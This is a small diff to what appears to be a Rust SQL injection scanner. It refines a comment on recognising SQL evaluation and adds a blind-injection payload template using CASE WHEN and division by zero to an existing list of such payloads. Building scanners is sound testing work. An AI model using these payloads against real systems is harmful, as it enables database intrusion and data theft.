@@ -4,7 +4,8 @@
 //! application that looks at the signs, counts or filters them cannot tell one from the other; one that works them out can. A
 //! calculator and a programming language work out differences too: so they stand where only SQL reads them, behind `AND` and
 //! a single equal sign or in a `CASE`, never alone. Two texts put together (`'a'||'b'`, `'a' 'b'`) are no proof either: other languages
-//! do that, and a search for words finds other ones.
+//! do that, and a search for words finds other ones. Neither is a server that fails at a single quote and not at two: so do
+//! Ruby and Python, to which two texts side by side are one.
 
 use model::Env;
 use model::profile::Payloads;
@@ -82,6 +83,7 @@ pub(super) const CONTEXTS: &[Context] = &[
     own(Name, "(CASE WHEN {C} THEN 1 ELSE -1 END)*LENGTH({V})", Normal),
     own(Any, "{V}'/**/AND/**/{C}/**/AND/**/'w'LIKE'w", Normal),
     own(Any, "{V}'||(CASE WHEN {C} THEN '' ELSE ''||abs(-9223372036854775807-1) END)||'", Normal),
+    own(Any, "{V}'||(CASE WHEN {C} THEN '' ELSE ''||1/0 END)||'", Normal),
     own(Any, "{V}'&&{C}&&'1", Normal),
     own(Any, "{V}' LIKE (CASE WHEN {C} THEN 'w' ELSE (SELECT 'w' UNION SELECT 'x') END) LIKE '", Normal),
     own(
